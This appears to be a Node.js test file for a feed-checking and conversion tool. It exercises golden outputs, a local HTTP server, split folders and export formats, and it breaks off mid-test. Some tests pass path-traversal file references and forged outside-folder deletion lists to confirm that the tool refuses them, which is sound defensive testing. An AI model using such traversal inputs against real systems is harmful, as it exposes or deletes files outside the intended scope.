// The built command, as people run it. `RENEW=true node --test test/built/cli/cli.test.mjs` writes what it says now into golden/: read it.
// All of it is .txt, lest it be formatted.
import assert from 'node:assert/strict';
import {spawn, spawnSync} from 'node:child_process';
import {once} from 'node:events';
import {
  chmodSync,
  existsSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  utimesSync,
  writeFileSync,
} from 'node:fs';
import {createServer} from 'node:http';
import {tmpdir} from 'node:os';
import {basename, dirname, join} from 'node:path';
import {after, afterEach, before, beforeEach, describe, it} from 'node:test';
import fc from '../../support/fast-check.mjs';

const main = 'dist/cli/main.js';
const feeds = 'test/built/cli/feeds';
const {NO_COLOR: _, ...env} = process.env;

function run(args, input = '') {
  const {status, stderr, stdout} = spawnSync(process.execPath, [main, ...args], {
    encoding: 'utf8',
    env,
    input,
    timeout: 60_000,
  });
  return {status, stderr, stdout};
}

/** Without blocking, for a server in this process. */
async function runBeside(args) {
  const child = spawn(process.execPath, [main, ...args], {env, stdio: ['ignore', 'pipe', 'pipe']});
  const output = {stdout: '', stderr: ''};
  for (const name of ['stdout', 'stderr']) child[name].setEncoding('utf8').on('data', (text) => (output[name] += text));
  const status = await new Promise((resolve) => child.on('close', resolve));
  return {status, ...output};
}

function assertGolden(name, text) {
  const path = join('test/built/cli/golden', name);
  if (process.env.RENEW) writeFileSync(path, text);
  assert.equal(text, readFileSync(path, 'utf8'));
}

// Requirement: E-11
describe('good-practice-browser check', () => {
  const golden = [
    ['check-real.txt', ['check', 'demo/practices.json'], 1],
    ['check-bare.txt', ['check', 'demo/bare.json'], 1],
    ['check-facets.txt', ['check', `${feeds}/facets.json`], 1],
    ['check-facets-csv.txt', ['check', `${feeds}/facets.csv`, '--facets', 'target-group:list budget:number'], 0],
    ['check-ugly.txt', ['check', `${feeds}/ugly.json`], 1],
    ['check-ugly.json.txt', ['check', `${feeds}/ugly.json`, '--json'], 1],
    ['check-broken.txt', ['check', `${feeds}/broken.txt`], 2],
    ['check-page.txt', ['check', 'demo/index.html'], 2],
    ['check-sound.txt', ['check', `${feeds}/sound.json`], 0],
    ['check-nothing.txt', ['check', 'nowhere.json'], 2],
  ];
  for (const [name, args, status] of golden)
    it(`prints ${name}, and exits with ${status}`, () => {
      const result = run(args);
      assert.deepEqual({status: result.status, stderr: result.stderr}, {status, stderr: ''});
      assertGolden(name, result.stdout);
    });

  it('prints the same for the standard input', () => {
    const text = readFileSync(`${feeds}/ugly.json`, 'utf8');
    const {status, stdout} = run(['check', '-'], text);
    assert.equal(status, 1);
    assert.equal(
      stdout.replaceAll('standard input', `${feeds}/ugly.json`),
      readFileSync('test/built/cli/golden/check-ugly.txt', 'utf8'),
    );
  });

  it('allows the given number of warnings', () => {
    assert.equal(run(['check', 'demo/practices.json', '--max-warnings', '3']).status, 0);
    assert.equal(run(['check', 'demo/practices.json', '--max-warnings', '2']).status, 1);
  });

  it('has no colours in a pipe, and feeds cannot control the terminal', () => {
    for (const extra of [[], ['--json']])
      assert.ok(!run(['check', `${feeds}/ugly.json`, ...extra]).stdout.includes('\x1b'));
  });

  const script = spawnSync('script', ['--version']).status === 0;
  const onTerminal = (variables) =>
    spawnSync('script', ['-qec', `${process.execPath} ${main} check ${feeds}/ugly.json`, '/dev/null'], {
      encoding: 'utf8',
      env: {...env, TERM: 'xterm', ...variables},
    }).stdout;
  it('has colours on a terminal, unless NO_COLOR is set', {skip: !script && 'no script(1) here'}, () => {
    assert.ok(onTerminal({}).includes('\x1b[31merror'));
    assert.ok(!onTerminal({NO_COLOR: '1'}).includes('\x1b[31m'));
  });

  it('gives a report for any file', () => {
    const folder = mkdtempSync(join(tmpdir(), 'feed-'));
    const path = join(folder, 'feed');
    fc.assert(
      fc.property(
        fc.uint8Array({maxLength: 200}),
        fc.constantFrom('', '[{"title":"A"', '{"practices":[', '<?xml ', 'title;city\n'),
        (bytes, start) => {
          writeFileSync(path, Buffer.concat([Buffer.from(start), bytes]));
          const {status, stderr, stdout} = run(['check', path, '--json']);
          assert.ok([0, 1, 2].includes(status));
          assert.equal(stderr, '');
          assert.ok(Array.isArray(JSON.parse(stdout)[0].findings));
        },
      ),
      {numRuns: 8},
    );
    rmSync(folder, {recursive: true});
  });

  describe('an address', () => {
    const feed = readFileSync(`${feeds}/ugly.json`, 'utf8');
    const answers = {'/feed.json': [200, feed], '/gone.json': [404, 'gone']};
    /** Three pages of one practice each, the last of which names the first again; and any number of pages. */
    const pageOf = (url) => {
      const {pathname, searchParams} = new URL(url, 'http://city.example');
      const page = Number(searchParams.get('page') ?? 1);
      const practices = [{id: `p${page}`, title: `Practice ${page}`, city: 'Oslo', details: `details/${page}.json`}];
      const next = `?page=${page + 1}`;
      if (pathname === '/header.json')
        return [200, JSON.stringify(practices), page < 3 ? {Link: `<${next}>; rel="next"`} : {}];
      // the second page has a post of the first again
      if (pathname === '/wp-json/wp/v2/posts') {
        const posts = [page, page + 1].map((id) => ({id, slug: `p${id}`, title: {rendered: `Practice ${id}`}}));
        const total = searchParams.get('orderby') === 'id' ? '3' : '4';
        return [200, JSON.stringify(posts), {'X-WP-TotalPages': '2', 'X-WP-Total': total}];
      }
      if (pathname === '/circle.json')
        return [200, JSON.stringify({practices, next_url: page < 3 ? next : '?', texts: 'texts.json'})];
      if (pathname === '/gap.json') return page < 3 ? [200, JSON.stringify({practices, next_url: next})] : [503, ''];
      return pathname === '/endless.json' ? [200, JSON.stringify({practices, next_url: next})] : undefined;
    };
    const texts = [1, 2, 3].map((i) => ({id: `p${i}`, sections: [{text: `All of practice ${i}.`}]}));
    answers['/texts.json'] = [200, JSON.stringify(texts)];
    answers['/leads-away.json'] = [200, JSON.stringify({practices: [{title: 'Here'}], next_url: 'away'})];
    answers['/texts-away.json'] = [200, JSON.stringify({practices: [{id: 'a', title: 'Here'}], texts: 'away'})];
    answers['/elsewhere.json'] = [200, JSON.stringify([{id: 'a', title: 'From another host', sections: ['B']}])];
    let server;
    let origin;
    before(async () => {
      server = createServer(({url}, response) => {
        if (url === '/drip.json') {
          response.write('[');
          const timer = setInterval(() => response.write(' '), 50);
          return response.on('close', () => clearInterval(timer));
        }
        const away = `${origin.replace('127.0.0.1', 'localhost')}/elsewhere.json`;
        const [status, body, headers = {}] =
          url === '/away' ? [302, '', {Location: away}] : (answers[url] ?? pageOf(url) ?? [500, '']);
        response.writeHead(status, headers).end(body);
      });
      await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
      origin = `http://127.0.0.1:${server.address().port}`;
    });
    after(() => server.close());

    it('is fetched', async () => {
      const {status, stdout} = await runBeside(['check', `${origin}/feed.json`, '--json']);
      const codesIn = (json) => JSON.parse(json).map(({findings}) => findings.map(({code}) => code));
      assert.equal(status, 1);
      assert.deepEqual(codesIn(stdout), codesIn(readFileSync('test/built/cli/golden/check-ugly.json.txt', 'utf8')));
    });

    for (const path of ['header.json', 'circle.json'])
      it(`is checked with its further pages: ${path}`, async () => {
        const {stderr, stdout} = await runBeside(['check', `${origin}/${path}`, '--json']);
        const reports = JSON.parse(stdout);
        assert.deepEqual(
          reports.map(({address, practices}) => [address.replace(/.*page=/, ''), practices]),
          [
            [`${origin}/${path}`, 1],
            ['2', 1],
            ['3', 1],
            ...(path === 'circle.json' ? [[`${origin}/${path}?`, 1]] : []),
          ],
        );
        assert.equal(stderr, '');
        const inWords = await runBeside(['check', `${origin}/${path}`]);
        assert.match(inWords.stdout, /\n[34] pages, [34] practices: \d+ notes\n$/);
      });

    it('of WordPress is checked for posts that are on none of its pages', async () => {
      const check = async (query) => {
        const {stdout} = await runBeside(['check', `${origin}/wp-json/wp/v2/posts${query}`, '--json']);
        return JSON.parse(stdout).map(({findings}) =>
          findings.filter(({code}) => code === 'missing-posts').map(({message, severity}) => [severity, message]),
        );
      };
      assert.deepEqual(await check(''), [[], []]);
      const [first, second] = await check('?orderby=date');
      assert.deepEqual(first, []);
      assert.equal(second.length, 1);
      assert.equal(second[0][0], 'warning');
      assert.match(second[0][1], /^1 post is missing from .*Add orderby=id to the address of the feed\.$/);
    });

    it('is checked up to the number of pages that the widget reads', async () => {
      const {stderr, stdout} = await runBeside(['check', `${origin}/endless.json`, '--json']);
      assert.equal(JSON.parse(stdout).length, 20);
      assert.match(stderr, /endless\.json\?page=21 and the pages after it were not checked/);
    });

    it('is checked, converted and prerendered up to the number of pages that an option allows', async () => {
      const few = await runBeside(['check', `${origin}/endless.json`, '--json', '--max-pages', '2']);
      assert.equal(JSON.parse(few.stdout).length, 2);
      assert.match(few.stderr, /endless\.json\?page=3 and the pages after it were not checked\..* --max-pages/);
      const more = await runBeside(['check', `${origin}/endless.json`, '--json', '--max-pages', '25']);
      assert.equal(JSON.parse(more.stdout).length, 25);
      for (const command of [['convert', '--to', 'json'], ['prerender']]) {
        const [name, ...options] = command;
        const {status, stderr, stdout} = await runBeside([name, `${origin}/endless.json`, ...options]);
        assert.deepEqual({status, stdout}, {status: 2, stdout: ''});
        assert.equal(
          stderr,
          `${origin}/endless.json?page=21 and the pages after it were not read: the limit is 20 pages. ` +
            'Put more practices on each page, or raise the limit: --max-pages on the command line, maxPages in a script.\n',
        );
        const paged = [name, `${origin}/header.json`, ...options, '--max-pages'];
        assert.equal((await runBeside([...paged, '2'])).status, 2);
        assert.equal((await runBeside([...paged, '3'])).status, 0);
      }
    });

    it('is given up when its time is over', async () => {
      const message =
        `${origin}/drip.json took longer than 0.4 seconds with all its pages. ` +
        'Split the feed, or raise the limit: --timeout on the command line, timeoutSeconds in a script.';
      const args = [`${origin}/drip.json`, '--timeout', '0.4'];
      const checked = await runBeside(['check', ...args, '--json']);
      assert.equal(checked.status, 2);
      const [{findings}] = JSON.parse(checked.stdout);
      assert.deepEqual(
        findings.map(({code, message: text}) => [code, text]),
        [['timeout', message]],
      );
      for (const command of [['convert', '--to', 'csv'], ['prerender']])
        assert.deepEqual(await runBeside([command[0], ...args, ...command.slice(1)]), {
          status: 2,
          stderr: `${message}\n`,
          stdout: '',
        });
    });

    it('is not followed to another host by a redirect of a page or of its texts', async () => {
      const host = new URL(origin).host.replace('127.0.0.1', 'localhost');
      const message = `${origin}/away redirects to another host, ${host}, so it was not loaded. Keep all parts of a feed on one host.`;
      const checked = await runBeside(['check', `${origin}/leads-away.json`, '--json']);
      assert.equal(checked.status, 2);
      assert.deepEqual(
        JSON.parse(checked.stdout)[1].findings.map(({code, message: text}) => [code, text]),
        [['redirected', message]],
      );
      for (const name of ['leads-away.json', 'texts-away.json'])
        assert.deepEqual(await runBeside(['convert', `${origin}/${name}`, '--to', 'json']), {
          status: 2,
          stderr: `${message}\n`,
          stdout: '',
        });
      // The address that the caller gives may redirect.
      const given = await runBeside(['convert', `${origin}/away`, '--to', 'json']);
      assert.equal(JSON.parse(given.stdout).practices[0].title, 'From another host');
    });

    it('is refused if it is larger than an option allows, and the message names the option', async () => {
      const refused = (name) =>
        `${name} is larger than 60 bytes. Make the feed smaller, or raise the limit: --max-bytes on the command line, maxBytes in a script.`;
      const feed = `${origin}/feed.json`;
      for (const name of [feed, `${feeds}/sound.json`]) {
        const {status, stderr} = await runBeside(['convert', name, '--to', 'json', '--max-bytes', '60']);
        assert.deepEqual({status, stderr}, {status: 2, stderr: `${refused(name)}\n`});
        const checked = await runBeside(['check', name, '--json', '--max-bytes', '60']);
        const [{findings}] = JSON.parse(checked.stdout);
        assert.deepEqual([findings[0].code, findings[0].message], ['too-large', refused(name)]);
      }
      assert.equal((await runBeside(['convert', feed, '--to', 'json', '--max-bytes', '90000000'])).status, 0);
    });

    it('is converted with all its pages and texts', async () => {
      const {stderr, stdout} = await runBeside(['convert', `${origin}/circle.json`, '--to', 'json']);
      assert.equal(stderr, '');
      assert.deepEqual(
        JSON.parse(stdout).practices.map(({id, details, sections}) => [id, details, sections?.[0].text]),
        [1, 2, 3].map((i) => [`p${i}`, undefined, `All of practice ${i}.`]),
      );
    });

    it('is not converted if a part is missing', async () => {
      for (const [command, ...more] of [['check'], ['convert', '--to', 'json']]) {
        const {status, stderr, stdout} = await runBeside([command, `${origin}/gap.json`, ...more]);
        assert.equal(status, 2);
        assert.match(stdout + stderr, /page=3 returned HTTP status 503/);
        if (command === 'convert') assert.equal(stdout, '');
      }
    });

    it('fails if there is no document or no server', async () => {
      const gone = await runBeside(['check', `${origin}/gone.json`]);
      assert.equal(gone.status, 2);
      assert.match(gone.stdout, /HTTP status 404/);
      const nobody = await runBeside(['check', 'http://127.0.0.1:1/feed.json']);
      assert.equal(nobody.status, 2);
      assert.match(nobody.stdout, /failed to load/);
      assert.ok(!nobody.stdout.includes('    at '));
    });
  });
});

describe('good-practice-browser convert', () => {
  it('keeps filters that the page describes', () => {
    const args = ['convert', `${feeds}/facets.csv`, '--facets', 'target-group:list budget:number', '--to'];
    const {facets, practices} = JSON.parse(run([...args, 'json']).stdout);
    assert.deepEqual(
      facets.map(({name, label, type}) => [name, label, type].flat()),
      [
        ['target-group', 'Target group', 'list'],
        ['budget', 'Budget', 'number'],
      ],
    );
    assert.deepEqual([practices[0]['target-group'], practices[0].budget], [['Families', 'Pupils'], 1250.5]);
    const [head, row] = run([...args, 'csv']).stdout.split('\r\n');
    assert.match(head, /,"target-group","budget"$/);
    assert.match(row, /,"Families; Pupils","1250\.5"$/);
  });

  it('gives the practices of a file the same ids in any order, also if only such filters differ', () => {
    const idsOf = (...rows) => {
      const input = ['title,city,audience', ...rows].join('\n');
      const {stdout} = run(['convert', '-', '--facets', 'audience:text', '--to', 'json'], input);
      return JSON.parse(stdout).practices.map(({audience, id}) => `${audience}: ${id}`);
    };
    const [young, old] = ['A,Rome,young', 'A,Rome,old'];
    assert.deepEqual(idsOf(young, old).toSorted(), idsOf(old, young).toSorted());
  });

  it('writes our own format, which gives the same practices', () => {
    const {status, stdout} = run(['convert', `${feeds}/sound.json`, '--to', 'json']);
    assert.equal(status, 0);
    assertGolden('convert-sound.json.txt', stdout);
    assert.equal(run(['convert', '-', '--to', 'json'], stdout).stdout, stdout);
  });

  it('writes a table', () => {
    const {status, stdout} = run(['convert', `${feeds}/sound.json`, '--to', 'csv']);
    assert.equal(status, 0);
    assertGolden('convert-sound.csv.txt', stdout);
  });

  it('writes a file, and reports it', () => {
    const folder = mkdtempSync(join(tmpdir(), 'feed-'));
    const path = join(folder, 'practices.csv');
    const {status, stderr, stdout} = run(['convert', 'demo/practices.json', '--to', path]);
    assert.deepEqual({status, stderr, stdout}, {status: 0, stderr: `${path}: 180 practices.\n`, stdout: ''});
    assert.ok(readFileSync(path, 'utf8').startsWith('\uFEFF"id","title"'));
    rmSync(folder, {recursive: true});
  });

  it('creates the folder of the file', () => {
    const folder = mkdtempSync(join(tmpdir(), 'feed-'));
    const path = join(folder, 'new', 'out', 'practices.csv');
    const {status, stderr} = run(['convert', `${feeds}/sound.json`, '--to', path]);
    assert.deepEqual({status, stderr}, {status: 0, stderr: `${path}: 2 practices.\n`});
    assert.ok(existsSync(path));
    rmSync(folder, {recursive: true});
  });

  it('reads other formats and its own tables', () => {
    const table = run(['convert', `${feeds}/sound.json`, '--to', 'csv']).stdout;
    const {practices} = JSON.parse(run(['convert', '-', '--to', 'json'], table).stdout);
    assert.deepEqual(
      practices.map(({city, country, id, period, url}) => [id, city, country, period, url]),
      [
        ['semaine', 'Neuchâtel', 'CH', 'depuis 2014', 'pratiques/semaine.html?a=1&b=2'],
        ['lyon-walk', 'Lyon', 'FR', '2015-2019', undefined],
      ],
    );
    const asJson = run(['convert', '-', '--to', 'json', '--format', 'json'], table);
    assert.equal(asJson.status, 2);
  });

  it('keeps relative addresses, or resolves them from --base', () => {
    const address = (...more) =>
      JSON.parse(run(['convert', `${feeds}/sound.json`, '--to', 'json', ...more]).stdout).practices[0].url;
    assert.equal(address(), 'pratiques/semaine.html?a=1&b=2');
    assert.equal(
      address('--base', 'https://city.example/data/feed.json'),
      'https://city.example/data/pratiques/semaine.html?a=1&b=2',
    );
  });

  it('writes a feed in parts without problems', () => {
    const folder = mkdtempSync(join(tmpdir(), 'gpb-split-'));
    try {
      const split = run(['convert', 'demo/practices.json', '--to', folder, '--split']);
      assert.equal(split.status, 0);
      assert.equal(
        split.stderr.replace(folder, 'DIR'),
        'DIR: feed.json with 180 practices, texts.json and 161 files in details.\n',
      );
      assert.equal(readdirSync(join(folder, 'details')).length, 161);
      const {practices, texts} = JSON.parse(readFileSync(join(folder, 'feed.json'), 'utf8'));
      assert.equal(texts, 'texts.json');
      assert.equal(practices.filter(({details}) => details && existsSync(join(folder, details))).length, 161);
      assert.ok(practices.every((practice) => !practice.sections));
      const [{findings}] = JSON.parse(run(['check', join(folder, 'feed.json'), '--json']).stdout);
      assert.deepEqual(
        findings.filter(({severity}) => severity === 'error').map(({code}) => code),
        [],
      );
    } finally {
      rmSync(folder, {recursive: true});
    }
  });

  it('never contacts another host, which the check reports if the address of the feed is known', () => {
    const feed = JSON.stringify([{title: 'A', details: 'https://other.example/a.json'}]);
    const codes = (...more) =>
      JSON.parse(run(['check', '-', '--json', ...more], feed).stdout)[0].findings.map(({code}) => code);
    assert.equal(codes().includes('foreign-address'), false);
    assert.ok(codes('--base', 'https://city.example/feed.json').includes('foreign-address'));
  });

  it('removes the parts of practices that have gone, and no other file', () => {
    const folder = mkdtempSync(join(tmpdir(), 'gpb-split-'));
    const details = () => readdirSync(join(folder, 'details')).sort();
    const split = (ids, text = 'Long') => {
      const practices = ids.map((id) => ({id, title: `About ${id}`, sections: text && [{text: `${text} ${id}`}]}));
      const {status, stderr} = run(['convert', '-', '--to', folder, '--split'], JSON.stringify(practices));
      assert.equal(status, 0, stderr);
      return stderr.replace(folder, 'DIR');
    };
    try {
      split(['a', 'b', 'c', 'd']);
      writeFileSync(join(folder, 'details', 'b.json'), 'Written by hand');
      writeFileSync(join(folder, 'details', 'mine.json'), '{}');
      const past = new Date('2020-01-01');
      utimesSync(join(folder, 'details', 'a.json'), past, past);
      const said = split(['a', 'd']);
      assert.equal(said, 'DIR: feed.json with 2 practices, texts.json and 2 files in details. 1 old file removed.\n');
      assert.deepEqual(details(), ['a.json', 'b.json', 'd.json', 'mine.json']);
      assert.equal(readFileSync(join(folder, 'details', 'b.json'), 'utf8'), 'Written by hand');
      assert.equal(statSync(join(folder, 'details', 'a.json')).mtime.getTime(), past.getTime());

      split(['a'], 'Longer');
      assert.deepEqual(details(), ['a.json', 'b.json', 'mine.json']);
      assert.equal(
        split(['a'], ''),
        'DIR: feed.json with 1 practice, and no other file, because there are no full texts. 2 old files removed.\n',
      );
      assert.deepEqual(details(), ['b.json', 'mine.json']);
      assert.deepEqual(readdirSync(folder).sort(), ['details', 'feed.json', 'good-practice-parts.json']);
    } finally {
      rmSync(folder, {recursive: true});
    }
  });

  it('removes no part that a changed list of its files names outside of the folder', () => {
    const folder = mkdtempSync(join(tmpdir(), 'gpb-split-'));
    const outside = join(folder, '..', `${basename(folder)}.json`);
    const split = (id) =>
      run(['convert', '-', '--to', folder, '--split'], JSON.stringify([{id, title: id, sections: ['Long']}]));
    try {
      split('a');
      const list = join(folder, 'good-practice-parts.json');
      const written = JSON.parse(readFileSync(list, 'utf8')).files;
      const [line] = written;
      writeFileSync(outside, readFileSync(join(folder, 'details', 'a.json')));
      const to = (path) => line.replace(/^\S+/, path);
      const files = [
        ...written,
        to(`../${basename(outside)}`),
        to(`details/../../${basename(outside)}`),
        to(outside),
        5,
        null,
      ];
      writeFileSync(list, JSON.stringify({files}));
      assert.equal(split('b').status, 0);
      assert.ok(existsSync(outside));
      for (const broken of ['', '[', '{"files": 5}', 'null']) {
        writeFileSync(list, broken);
        assert.equal(split('b').status, 0);
      }
    } finally {
      rmSync(folder, {recursive: true});
      rmSync(outside, {force: true});
    }
  });

  it('reads the full texts of a file from beside it, so that it can be converted again', () => {
    const folder = mkdtempSync(join(tmpdir(), 'gpb-split-'));
    const path = join(folder, 'new list', 'feed.json');
    const split = (feed, input) => run(['convert', feed, '--to', dirname(path), '--split'], input);
    const everything = () => readdirSync(dirname(path), {recursive: true}).sort();
    const practices = [
      {id: 'a', title: 'A', summary: 'Short', sections: [{heading: 'Aim', text: 'Lanterns'}], links: ['more.html']},
      {id: 'b', title: 'B', sections: [{text: 'A garden'}]},
    ];
    try {
      const feed = JSON.stringify({version: '1', language: 'en', practices});
      assert.equal(split('-', feed).status, 0);
      const written = everything();
      assert.deepEqual(split(path), {
        status: 0,
        stdout: '',
        stderr: `${dirname(path)}: feed.json with 2 practices, texts.json and 2 files in details.\n`,
      });
      assert.deepEqual(everything(), written);
      for (const args of [
        ['convert', '--to', 'json'],
        ['convert', '--to', 'csv'],
        ['convert', '--to', 'json', '--base', 'https://city.example/data/feed.json'],
        ['prerender'],
      ]) {
        const {status, stderr, stdout} = run([...args, path]);
        assert.deepEqual({status, stderr}, {status: 0, stderr: ''});
        assert.equal(stdout, run([...args, '-'], feed).stdout);
      }
    } finally {
      rmSync(folder, {recursive: true});
    }
  });

  it('writes no table without the full texts, and reads no file outside of the folder', () => {
    const folder = mkdtempSync(join(tmpdir(), 'gpb-split-'));
    const path = join(folder, 'data', 'feed.json');
    const outside = join(folder, 'texts.json');
    const convert = (texts, to = 'csv', feed = path) => {
      const text = JSON.stringify({version: '1', texts, practices: [{id: 'a', title: 'A'}]});
      if (feed === path) writeFileSync(path, text);
      return run(['convert', feed, '--to', to], text);
    };
    try {
      mkdirSync(dirname(path));
      writeFileSync(outside, JSON.stringify([{id: 'a', sections: ['Secret']}]));
      for (const texts of ['../texts.json', 'b/../../texts.json', '..%2Ftexts.json', outside, `.//${outside}`]) {
        const {status, stderr, stdout} = convert(texts);
        assert.deepEqual({status, stdout}, {status: 2, stdout: ''}, texts);
        assert.match(stderr, /^The full texts of .*feed\.json are in another document|^There is no file .*data/);
      }
      assert.match(convert('gone.json').stderr, /^There is no file .*gone\.json/);
      assert.match(
        convert('texts.json', 'csv', '-').stderr,
        /^The full texts of standard input are in another document/,
      );
      // Our own format keeps the address.
      assert.match(convert('../texts.json', 'json').stdout, /"texts": "\.\.\/texts\.json"/);
    } finally {
      rmSync(folder, {recursive: true});
    }
  });

  it('keeps the files of full texts that a list names, if they were not read', () => {
    const folder = mkdtempSync(join(tmpdir(), 'gpb-split-'));
    const split = (feed) => run(['convert', '-', '--to', folder, '--split'], JSON.stringify(feed));
    try {
      split([{id: 'a', title: 'A', sections: ['Long']}]);
      const {texts: _, ...list} = JSON.parse(readFileSync(join(folder, 'feed.json'), 'utf8'));
      assert.equal(split(list).status, 0);
      assert.ok(existsSync(join(folder, 'details', 'a.json')));
    } finally {
      rmSync(folder, {recursive: true});
    }
  });

  it('refuses to write parts over a file of somebody else, before it writes anything', () => {
    const folder = mkdtempSync(join(tmpdir(), 'gpb-split-'));
    const split = (feed, input) => run(['convert', feed, '--to', folder, '--split'], input);
    const feedOf = (text) => JSON.stringify([{id: 'a', title: 'A', sections: [text]}]);
    const refused = (path) => ({
      status: 2,
      stdout: '',
      stderr: `${path} exists, and this command did not write it. Move it away, or choose another folder.\n`,
    });
    try {
      mkdirSync(join(folder, 'details'));
      for (const name of ['feed.json', 'texts.json', join('details', 'a.json')]) {
        const path = join(folder, name);
        const text = feedOf('Written by hand');
        writeFileSync(path, text);
        assert.deepEqual(split(name === 'feed.json' ? path : '-', feedOf('Long')), refused(path));
        assert.equal(readFileSync(path, 'utf8'), text);
        assert.deepEqual(
          readdirSync(folder, {recursive: true}).filter((each) => each.endsWith('.json')),
          [name],
        );
        rmSync(path);
      }
      assert.equal(split('-', feedOf('Long')).status, 0);
      writeFileSync(join(folder, 'texts.json'), 'Changed by hand');
      assert.deepEqual(split('-', feedOf('Longer')), refused(join(folder, 'texts.json')));
    } finally {
      rmSync(folder, {recursive: true});
    }
  });

  it('keeps the files that are there if the feed has no practices', () => {
    const folder = mkdtempSync(join(tmpdir(), 'gpb-empty-'));
    const empty = '{"version": "1", "title": "T", "practices": []}';
    try {
      for (const args of [
        ['convert', '-', '--to', join(folder, 'feed.json')],
        ['convert', '-', '--to', join(folder, 'feed.csv')],
        ['convert', '-', '--split', '--to', join(folder, 'parts')],
      ]) {
        const target = args.at(-1);
        assert.equal(run(args, '[{"title": "A", "sections": ["Long"]}]').status, 0);
        const everything = () =>
          readdirSync(folder, {recursive: true}).map((name) => [name, statSync(join(folder, name)).mtimeMs]);
        const before = everything();
        for (const more of [[], ['--filter', 'city:Leeds']]) {
          const {status, stderr} = run([...args, ...more], empty);
          assert.equal(status, 2);
          assert.ok(stderr.endsWith(`There is no practice to write. ${target} stays as it was.\n`), stderr);
          assert.deepEqual(everything(), before);
        }
      }
      // Nothing matches for the time being.
      assert.equal(
        run(['convert', '-', '--to', join(folder, 'feed.json'), '--filter', 'city:Leeds'], '[{"title": "A"}]').status,
        0,
      );
    } finally {
      rmSync(folder, {recursive: true});
    }
  });

  it('writes the right records into each part', () => {
    const folder = mkdtempSync(join(tmpdir(), 'gpb-split-'));
    try {
      const practices = [
        {id: 'A b', title: 'With a summary', summary: 'Short', sections: [{heading: 'Aim', text: 'Long'}]},
        {
          id: 'c',
          title: 'Without',
          city: 'Leeds',
          country: 'GB',
          sections: [{html: '<p>Rich <b>text</b></p>'}],
          links: ['x.html'],
        },
        {id: 'd', title: 'All that there is', summary: 'Short'},
      ];
      const written = run(['convert', '-', '--to', folder, '--split'], JSON.stringify({language: 'en', practices}));
      assert.equal(written.status, 0);
      const details = readdirSync(join(folder, 'details')).map((name) => `details/${name}`);
      const parts = ['feed.json', 'texts.json', ...details.sort()];
      const read = (name) => `${name}\n${readFileSync(join(folder, name), 'utf8')}`;
      assertGolden('convert-sound-split.txt', parts.map(read).join('\n'));
    } finally {
      rmSync(folder, {recursive: true});
    }
  });

  it('names the part that it cannot read', () => {
    const {status, stderr, stdout} = run(['convert', `${feeds}/broken.txt`, '--to', 'json']);
    assert.deepEqual({status, stdout}, {status: 2, stdout: ''});
    assert.match(stderr, /broken\.txt is empty, incomplete or not valid JSON/);
    assert.ok(!stderr.includes('    at '));
  });
});

// Requirement: E-05, E-15
// Requirement: E-12
describe('good-practice-browser convert, for feed readers and maps', () => {
  const page = ['--page', 'https://city.example/practices'];
  const convert = (...more) => run(['convert', 'demo/practices.json', ...more]);
  const titlesIn = (rss) => [...rss.matchAll(/<item>[^]*?<title>(.*?)<\/title>/g)].map(([, title]) => title);

  for (const [format, needed] of [
    ['rss', page],
    ['atom', page],
    ['json-feed', []],
    ['geojson', []],
  ])
    it(`writes ${format}, which the command reads again`, () => {
      const args = ['--base', 'https://city.example/feed.json', '--url', 'https://city.example/a.xml', '--to', format];
      const {status, stderr, stdout} = run(['convert', `${feeds}/sound.json`, ...needed, ...args]);
      assert.equal(status, 0);
      const demand = 'Atom demands a date for each practice, and neither the feed nor a practice has one.';
      assert.equal(stderr.slice(0, demand.length), format === 'atom' ? demand : '');
      const now = new RegExp(`>${new Date().getFullYear()}-[^<]+Z<`, 'g');
      assertGolden(`convert-sound.${format}.txt`, stdout.replaceAll(now, '>NOW<'));
      const again = JSON.parse(run(['convert', '-', '--to', 'json'], stdout).stdout);
      assert.deepEqual(
        again.practices.map(({city, country, id}) => [id, city, country]),
        [
          ['semaine', 'Neuchâtel', 'CH'],
          ['lyon-walk', 'Lyon', 'FR'],
        ],
      );
    });

  it('takes the format from the end of a file name', () => {
    const folder = mkdtempSync(join(tmpdir(), 'feed-'));
    for (const [name, start] of [
      ['a.rss', '<?xml version="1.0" encoding="UTF-8"?>\n<rss '],
      ['a.RSS.xml', '<?xml version="1.0" encoding="UTF-8"?>\n<rss '],
      ['a.atom.xml', '<?xml version="1.0" encoding="UTF-8"?>\n<feed '],
      ['a.json-feed.json', '{\n  "version": "https://jsonfeed.org/version/1.1"'],
      ['a.geojson', '{\n  "type": "FeatureCollection"'],
      ['a.json', '{\n  "version": "1"'],
    ]) {
      const path = join(folder, name);
      assert.deepEqual(convert(...page, '--to', path), {status: 0, stderr: `${path}: 180 practices.\n`, stdout: ''});
      assert.ok(readFileSync(path, 'utf8').startsWith(start), name);
    }
    const {status, stderr} = convert('--to', join(folder, 'a.xml'));
    assert.equal(status, 2);
    assert.match(stderr, /\.rss\.xml, \.atom\.xml or \.json-feed\.json/);
    rmSync(folder, {recursive: true});
  });

  it('writes only the practices that match a filter, in every format', () => {
    const filter = ['--filter', 'topic:education country:ES'];
    const {practices} = JSON.parse(convert('--to', 'json', ...filter).stdout);
    const all = JSON.parse(readFileSync('demo/practices.json', 'utf8')).practices;
    const expected = all.filter(({country, topics}) => [country].flat().includes('ES') && topics.includes('education'));
    assert.ok(expected.length > 1 && expected.length < all.length);
    assert.deepEqual(
      practices.map(({title}) => title),
      expected.map(({title}) => title),
    );
    const titles = expected.map(({title}) => title).toSorted();
    const written = {
      atom: (text) => [...text.matchAll(/<entry>[^]*?<title[^>]*>(.*?)<\/title>/g)].map(([, title]) => title),
      'json-feed': (text) => JSON.parse(text).items.map(({title}) => title),
      geojson: (text) => JSON.parse(text).features.map(({properties}) => properties.title),
    };
    for (const [format, read] of Object.entries(written)) {
      const {stderr, stdout} = convert('--to', format, ...page, ...filter);
      assert.equal(stderr, '');
      assert.deepEqual(read(stdout).toSorted(), titles, format);
    }
    const rss = convert('--to', 'rss', ...page, ...filter);
    assert.equal(rss.stderr, '');
    assert.equal(titlesIn(rss.stdout).length, expected.length);
    assert.match(rss.stdout, /<title>Good practices of intercultural cities: Education, Spain<\/title>/);
    assert.match(rss.stdout, /<link>https:\/\/city\.example\/practices\?gp-topic=education&amp;gp-country=ES<\/link>/);
    const german = convert('--to', 'rss', ...page, ...filter, '--lang', 'de');
    assert.match(german.stdout, /: Bildung, Spanien<\/title>/);
